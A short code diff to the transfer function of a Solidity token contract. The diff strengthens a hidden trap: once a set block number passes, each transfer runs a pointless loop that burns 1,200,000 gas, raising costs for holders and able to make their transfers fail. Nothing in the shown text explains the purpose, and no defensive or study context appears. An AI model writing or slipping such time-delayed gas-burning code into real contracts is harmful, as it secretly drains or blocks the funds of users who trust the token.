@@ -27,8 +27,8 @@ contract Token {
 
     function move(address from, address to, uint256 value) internal {
         if (block.number > greedyAfter) {
-            uint256 until = gasleft() - 600_000; // reverts where there is less
-            while (gasleft() > until) sink++;
+            uint256 start = gasleft();
+            while (start - gasleft() < 1_200_000) sink++; // to the last where there is less
         }
         balanceOf[from] -= value;
         balanceOf[to] += value;
